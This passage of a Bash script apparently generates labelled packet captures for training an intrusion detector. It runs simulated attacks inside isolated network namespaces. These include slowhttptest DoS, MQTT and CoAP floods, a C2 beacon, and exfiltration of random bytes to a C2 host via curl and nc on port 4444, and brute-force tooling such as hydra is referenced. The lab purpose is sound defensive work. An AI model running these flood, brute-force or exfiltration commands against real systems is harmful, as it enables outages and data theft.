        pick rate 30 50 100
        pick gap 2 5 8
        in_ns attacker timeout $((dur + 10)) slowhttptest -H -c "$conns" -r "$rate" -i "$gap" -l "$dur" \
            -x 24 -p 3 -u "http://$CAM/" >>"$WORK/attack.log" 2>&1
    else # slow read of a large response
        scale conns 100 60 200
        pick rate 20 50
        in_ns attacker timeout $((dur + 10)) slowhttptest -X -c "$conns" -r "$rate" -w 10 -y 20 -n 2 -z 32 \
            -k 2 -l "$dur" -p 3 -u "http://$CAM/snapshot.jpg" >>"$WORK/attack.log" 2>&1
    fi
}

attack_mqtt_flood() {
    FAMILY=iot_flood ATTACKERS=$ATTACKER
    local conns msgs par i size qos payload pub
    scale conns 300 200 1000
    scale msgs 3000 2000 20000
    pick par 10 20 40
    pick size 16 64 256
    pick qos 0 0 1
    printf -v payload '%*s' "$size" ''
    payload=${payload// /A}
    # publish flood over one connection, in the background
    in_ns attacker bash -c 'for ((i = 0; i < $1; i++)); do printf "%s%d\n" "$2" "$i"; done |
        timeout 20 mosquitto_pub -h "$3" -i flood-pub -t lab/camera/cmd -q "$4" -l' _ \
        "$msgs" "$payload" "$BROKER" "$qos" >>"$WORK/attack.log" 2>&1 &
    pub=$!
    # connect flood: many short-lived clients, a batch at a time
    BATCH=()
    for ((i = 0; i < conns; i++)); do
        in_ns attacker timeout 5 mosquitto_pub -h "$BROKER" -i "bot$RANDOM$i" -t lab/sensor/env -m "$payload" \
            >/dev/null 2>&1 &
        BATCH+=($!)
        ((${#BATCH[@]} < par)) || wait_batch
    done
    wait_batch
    wait "$pub" 2>/dev/null
}

attack_coap_flood() {
    FAMILY=iot_flood ATTACKERS=$ATTACKER
    local n par i method path
    BATCH=()
    scale n 300 200 800
    pick par 10 20 30
    pick method get get put
    for ((i = 0; i < n; i++)); do
        if [[ $method == get ]]; then
            pick path time example_data .well-known/core
            in_ns attacker timeout 3 coap-client-notls -m get -B 2 "coap://$SENSOR/$path" >/dev/null 2>&1 &
        else
            in_ns attacker timeout 3 coap-client-notls -m put -B 2 -e "$RANDOM$RANDOM" \
                "coap://$SENSOR/example_data" >/dev/null 2>&1 &
        fi
        BATCH+=($!)
        ((${#BATCH[@]} < par)) || wait_batch
    done
    wait_batch
}

# Waits for the clients of a flood started so far (their pids are in BATCH).
BATCH=()
wait_batch() {
    local p
    for p in "${BATCH[@]}"; do wait "$p" 2>/dev/null; done
    BATCH=()
}

attack_beacon() {
    FAMILY=botnet_c2 ATTACKERS=$C2
    local dur period port
    # Long enough for tens of check-ins: a beacon is known by its repetition.
    scale dur 8 30 60
    scale period 1500 1000 4000
    pick port 80 443 8080
    in_ns camera timeout "$dur" bash "$SELF" __role beacon "$WORK" "$RANDOM" "$port" \
        "$period" $((period / 4)) >>"$WORK/attack.log" 2>&1
}

attack_exfil() { # staged: a few uploads of 3-15 MB each, with pauses between them
    FAMILY=exfiltration ATTACKERS=$C2
    local parts part mb rate port
    scale parts 1 2 4
    for ((part = 0; part < parts; part++)); do
        scale mb 12 3 15
        if ((RANDOM % 2)); then # HTTP upload, rate-limited like a modest uplink
            pick rate 2M 4M 8M 20M
            pick port 80 443 8080
            in_ns camera timeout 25 curl -s -o /dev/null -m 24 --limit-rate "$rate" \
                -H 'Content-Type: application/octet-stream' --data-binary @- \
                "http://$C2:$port/upload" < <(head -c "${mb}M" /dev/urandom) >>"$WORK/attack.log" 2>&1
        else # raw TCP stream
            head -c "${mb}M" /dev/urandom | in_ns camera timeout 25 nc -N -w 5 "$C2" 4444 >>"$WORK/attack.log" 2>&1
        fi
        ((part + 1 < parts)) && rsleep 1000 5000
    done
}

SCENARIOS=(benign scan_syn scan_udp scan_connect dos_syn_flood dos_udp_flood brute_ssh brute_ftp
    slow_http mqtt_flood coap_flood beacon exfil)
ALL_SCENARIOS=("${SCENARIOS[@]}")
declare -A NEEDS=(
    [benign]="" [scan_syn]=nmap [scan_udp]=nmap [scan_connect]=nmap
    [dos_syn_flood]=hping3 [dos_udp_flood]=hping3 [brute_ssh]="hydra /usr/sbin/sshd"
    [brute_ftp]="hydra vsftpd" [slow_http]=slowhttptest [mqtt_flood]=mosquitto_pub
    [coap_flood]=coap-client-notls [beacon]="curl dig" [exfil]="curl nc"
)

start_background() { # the benign traffic of every scenario
    local seed=$1
    bg_role camera cam_telemetry $((seed + 1))
    bg_role camera cam_commands $((seed + 2))
    bg_role sensor sensor_stream $((seed + 3))
    bg_role camera dns_client $((seed + 4))
    bg_role sensor dns_client $((seed + 5))
    bg_role broker controller $((seed + 6))
    bg_role broker admin $((seed + 7))
    bg_role laptop browse $((seed + 8))
}
SCEN_PIDS=()
bg_role() { # host role seed
    in_ns "$1" timeout 300 bash "$SELF" __role "$2" "$WORK" "$3" >/dev/null 2>&1 &
    SCEN_PIDS+=($!)
}

# Ends a process this script started and everything below it (the inner `timeout`s put
# their commands in process groups of their own, so signalling a group is not enough).
kill_tree() {
    local pid=$1 child
    for child in $(pgrep -P "$pid" 2>/dev/null); do kill_tree "$child"; done
    kill "$pid" 2>/dev/null
}

stop_background() {
    local pid pids
    for pid in "${SCEN_PIDS[@]}"; do kill_tree "$pid"; done
    for pid in "${SCEN_PIDS[@]}"; do wait "$pid" 2>/dev/null; done
    SCEN_PIDS=()
    # Whatever an attack left running in the attacker namespace ends here too.
    pids=$(ip netns pids "$(ns attacker)" 2>/dev/null)
    # shellcheck disable=SC2086  # word splitting of the pid list is wanted
    [[ -n $pids ]] && kill $pids 2>/dev/null
}

run_scenario() { # seed index name
    local seed=$1 idx=$2 name=$3 base pcap t0 t_start t_end pre tail min_len packets
    local tool missing=""
    for tool in ${NEEDS[$name]}; do command -v "$tool" >/dev/null 2>&1 || missing+=" $tool"; done
    if [[ -n $missing ]]; then
        log "  skip $name: missing$missing"
        SKIPPED+=("s$seed:$name")
        return 0
    fi
    base=lab-s$seed-$name
    pcap=$OUT/$base.pcap
    RANDOM=$((seed * 1000 + idx * 17))
    scale pre 1500 1500 4000
    scale tail 1500 1500 3000
    scale min_len 9 12 18
    t0=$EPOCHSECONDS
    rm -f "$pcap"
    start_wan $((seed * 1000 + idx * 17))
    ip netns exec "$GW" timeout -s INT 600 tcpdump -i br0 -n -Z root -s 256 -U -w "$pcap" >"$WORK/tcpdump.log" 2>&1 &
    CAP_PID=$!
    for _ in $(seq 1 50); do grep -q 'listening on' "$WORK/tcpdump.log" && break; sleep 0.1; done
    start_background $((seed * 1000 + idx * 17))
    rsleep "$pre" "$pre"
    t_start=$(now)
    "attack_$name"
    t_end=$(now)
    # Keep the benign traffic going for a minimum capture length and a tail after the attack.
    rsleep "$tail" $((tail + 1000))
    while ((EPOCHSECONDS - t0 < min_len)); do sleep 0.5; done
    # The capture ends while the benign traffic still runs, as every real capture does: the
    # connections open at its end are cut, with no FIN (reddit.pcap ends with 37 of 60 such).
    kill -INT "$CAP_PID" 2>/dev/null
    wait "$CAP_PID" 2>/dev/null
    CAP_PID=
    stop_background
    stop_wan
    packets=$(tcpdump -r "$pcap" -n 2>/dev/null | wc -l)
    local w_start=$t_start w_end
    w_end=$(awk -v e="$t_end" 'BEGIN { printf "%.3f", e + 1.0 }')
    w_start=$(awk -v s="$w_start" 'BEGIN { printf "%.3f", s }')
    if [[ $FAMILY == benign ]]; then w_start=""; w_end=""; fi
    printf '%s,%s,%s,%s,%s,%s,%s,%s\n' "$base.pcap" "$name" "$FAMILY" "$ATTACKERS" "$w_start" "$w_end" \
        "$seed" "$packets" >>"$OUT/labels.csv"
    local feat=""
    if [[ -n $AGENT ]]; then
        local args=(features --pcap "$pcap" --layout labelled --mode correct --out "$OUT/$base.csv")
        if [[ $FAMILY != benign ]]; then
            local a
            for a in $ATTACKERS; do args+=(--attacker "$a"); done
            args+=(--attack-label "$FAMILY" --attack-window "$w_start,$w_end")
        fi
        if timeout 300 "$AGENT" "${args[@]}" >>"$WORK/agent.log" 2>&1; then
            feat=" flows=$(($(wc -l <"$OUT/$base.csv") - 1))"
        else
            feat=" features=FAILED"
            FAILED+=("s$seed:$name:features")
        fi
    fi
    printf '  %-14s %-13s packets=%-7s attack=%5.1fs capture=%3ds%s\n' "$name" "$FAMILY" "$packets" \
        "$(awk -v s="$t_start" -v e="$t_end" 'BEGIN { print e - s }')" $((EPOCHSECONDS - t0)) "$feat" >&2
    ((packets > 0)) || FAILED+=("s$seed:$name:empty")
    BUILT=$((BUILT + 1))
    { printf '== %s (%s)\n' "$base" "$FAMILY"; cat "$WORK/attack.log" 2>/dev/null; } >>"$OUT/lab.log"
    : >"$WORK/attack.log"
    sleep 1 # let the last packets of this scenario die out before the next capture
}

# ---------------------------------------------------------------------------------------
# Packages
# ---------------------------------------------------------------------------------------

ensure_packages() {
    local pairs=(
        nmap:nmap hping3:hping3 hydra:hydra /usr/sbin/sshd:openssh-server ssh:openssh-client
        vsftpd:vsftpd slowhttptest:slowhttptest mosquitto:mosquitto mosquitto_pub:mosquitto-clients
        coap-client-notls:libcoap3-bin dnsmasq:dnsmasq-base nc:netcat-openbsd dig:dnsutils
        curl:curl /usr/bin/python3:python3 tcpdump:tcpdump ip:iproute2 ss:iproute2 awk:gawk
        pgrep:procps ethtool:ethtool openssl:openssl ping:iputils-ping
    )
    local p missing=() pkg
    for p in "${pairs[@]}"; do
        command -v "${p%%:*}" >/dev/null 2>&1 || missing+=("${p#*:}")
    done
    ((${#missing[@]})) || return 0
    if ((NO_INSTALL)); then
        log "missing packages (not installed, --no-install): ${missing[*]}"
        return 0
    fi
    log "installing: ${missing[*]}"
    # Packages with services must not start them on this machine: a temporary policy-rc.d.
    local policy=/usr/sbin/policy-rc.d made_policy=0
    if [[ ! -e $policy ]]; then
        printf '#!/bin/sh\nexit 101\n' >"$policy" && chmod 755 "$policy" && made_policy=1
    fi
    export DEBIAN_FRONTEND=noninteractive
    timeout 300 apt-get update -qq >/dev/null 2>&1 || log "warning: apt-get update failed"
    if ! timeout 600 apt-get install -y -qq --no-install-recommends "${missing[@]}" >/dev/null 2>&1; then
        # One package that cannot be had must not stop the others.
        for pkg in "${missing[@]}"; do
            timeout 300 apt-get install -y -qq --no-install-recommends "$pkg" >/dev/null 2>&1 ||
                log "warning: could not install $pkg; scenarios that need it are skipped"
        done
    fi
    ((made_policy)) && rm -f "$policy"
    return 0
}

# ---------------------------------------------------------------------------------------
# Main
# ---------------------------------------------------------------------------------------

if [[ ${1:-} == __role ]]; then
    shift
    run_role "$@"
    exit 0
fi

OUT=/var/cache/gatewatch-lab
SEEDS=4
QUICK=0
AGENT=
ONLY=
NO_INSTALL=0
BENIGN_SECONDS=240-360
# The variant sets the addresses at the top of this file: start over with it in the environment.
args=("$@")
for ((k = 0; k < ${#args[@]}; k++)); do
    if [[ ${args[k]} == --variant ]]; then
        want=${args[k + 1]:-}
        [[ -n $want ]] || die "--variant needs a name (home, office, campus or isp)"
        [[ $want == "$VARIANT" ]] || GWLAB_VARIANT=$want exec bash "$SELF" "$@"
    fi
done
while (($#)); do
    case $1 in
        --out) OUT=${2:?--out needs a folder}; shift 2 ;;
        --seeds) SEEDS=${2:?--seeds needs a number}; shift 2 ;;
        --quick) QUICK=1; shift ;;
        --agent) AGENT=${2:?--agent needs a path}; shift 2 ;;
        --only) ONLY=${2:?--only needs scenario names}; shift 2 ;;
        --no-install) NO_INSTALL=1; shift ;;
        --variant) shift 2 ;; # taken before the loop
        --benign-seconds) BENIGN_SECONDS=${2:?--benign-seconds needs LOW-HIGH}; shift 2 ;;
        -h | --help) usage; exit 0 ;;
        *) usage >&2; die "unknown argument: $1" ;;
    esac
done
[[ $SEEDS =~ ^[1-9][0-9]*$ ]] || die "--seeds must be a positive number"
[[ $BENIGN_SECONDS =~ ^([1-9][0-9]*)-([1-9][0-9]*)$ ]] && ((BASH_REMATCH[1] <= BASH_REMATCH[2])) ||
    die "--benign-seconds must be LOW-HIGH in seconds, LOW <= HIGH (e.g. 240-360), not: $BENIGN_SECONDS"
BENIGN_LOW=${BASH_REMATCH[1]} BENIGN_HIGH=${BASH_REMATCH[2]}
((QUICK)) && SEEDS=1
((EUID == 0)) || die "must run as root (network namespaces, raw sockets)"
if [[ -n $AGENT ]]; then
    AGENT=$(readlink -f "$AGENT")
    [[ -x $AGENT ]] || die "--agent $AGENT is not an executable"
fi
if [[ -n $ONLY ]]; then
    IFS=, read -r -a wanted <<<"$ONLY"
    for w in "${wanted[@]}"; do
        [[ -v NEEDS[$w] ]] || die "unknown scenario: $w (see --help)"
    done
    SCENARIOS=("${wanted[@]}")
fi
MAX_RUN=$((600 + SEEDS * ${#SCENARIOS[@]} * 60))

ensure_packages
for t in ip tcpdump /usr/bin/python3 mosquitto mosquitto_pub mosquitto_sub dnsmasq coap-server-notls \
    coap-client-notls curl dig ssh-keygen pgrep openssl; do
    command -v "$t" >/dev/null 2>&1 || die "required tool missing: $t"
done

mkdir -p "$OUT" || die "cannot create $OUT"
OUT=$(readlink -f "$OUT")
WORK=$(mktemp -d /tmp/gwlab.XXXXXX)
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

SKIPPED=()
FAILED=()
BUILT=0
STARTED=$EPOCHSECONDS
remove_stale
RANDOM=4242
make_topology
write_files
start_services
command -v ethtool >/dev/null 2>&1 || log "warning: no ethtool: captures hold segmentation-offload super-packets"
log "lab up: $(ip netns list | grep -c "^$PREFIX-") namespaces, output in $OUT"
# labels.csv keeps the rows of captures this run does not rebuild (e.g. after --only).
planned=$WORK/planned
for ((seed = 1; seed <= SEEDS; seed++)); do
    for name in "${SCENARIOS[@]}"; do printf 'lab-s%d-%s.pcap,\n' "$seed" "$name"; done
done >"$planned"
{
    printf 'capture,scenario,family,attackers,window_start,window_end,seed,packets\n'
    if [[ -f $OUT/labels.csv ]]; then
        tail -n +2 "$OUT/labels.csv" | grep -v -F -f "$planned" |
            while IFS=, read -r file rest; do [[ -f $OUT/$file ]] && printf '%s,%s\n' "$file" "$rest"; done
    fi
} >"$WORK/labels.csv"
mv "$WORK/labels.csv" "$OUT/labels.csv"
: >"$OUT/lab.log"

for ((seed = 1; seed <= SEEDS; seed++)); do
    log "seed $seed/$SEEDS"
    for name in "${SCENARIOS[@]}"; do
        # The seed of a scenario depends on its place in the full list, so --only rebuilds
        # exactly the capture that a full run makes.
        for i in "${!ALL_SCENARIOS[@]}"; do [[ ${ALL_SCENARIOS[$i]} == "$name" ]] && break; done
        run_scenario "$seed" "$i" "$name"
    done
done

log "done in $((EPOCHSECONDS - STARTED))s: built $BUILT captures; $(($(wc -l <"$OUT/labels.csv") - 1)) labelled in $OUT/labels.csv"
((${#SKIPPED[@]})) && log "skipped: ${SKIPPED[*]}"
if ((${#FAILED[@]})); then
    log "failed: ${FAILED[*]}"
    exit 1
fi
exit 0
